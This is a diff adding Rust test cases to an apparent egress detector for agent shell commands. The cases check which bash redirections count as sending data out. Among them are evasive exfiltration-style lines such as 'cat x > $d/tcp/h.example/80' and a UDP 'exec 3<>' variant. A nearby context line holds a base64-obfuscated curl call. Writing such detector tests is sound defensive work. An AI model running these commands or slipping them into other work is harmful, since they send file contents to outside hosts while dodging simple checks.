@@ -100,6 +100,25 @@ fn egress_and_its_destinations() {
         e("bash -c \"$(echo Y3VybAo= | base64 -d)\"").map(|e| e.destinations),
         Some(vec![])
     );
+    // bash opens a redirection's expanded name: one that can still become /dev/tcp/… sends,
+    // one that begins otherwise, or that is not a redirection, does not.
+    for c in [
+        "d=/dev; cat x > $d/tcp/h.example/80",
+        "cat x > ${D:-/dev}/tcp/h.example/80",
+        "p=/dev/udp/h.example/53; exec 3<>$p",
+        "cat x > ~/tcp/h.example/80",
+        "cat x >> /d$v/tcp/h.example/80",
+    ] {
+        assert_eq!(e(c).map(|e| e.destinations), Some(vec![]), "{c}");
+    }
+    for c in [
+        "cat x > out/$n.txt",
+        "cat x > /tmp/$n",
+        "cd /dev && cat x > tcp/h.example/80",
+        "echo $d/tcp/h.example/80",
+    ] {
+        assert_eq!(e(c), None, "{c}");
+    }
     // Without a working directory (an MCP client's call) a relative word is judged by
     // its own characters.
     let none = |c: &str| r.read_by("Bash", &bash(c), None);
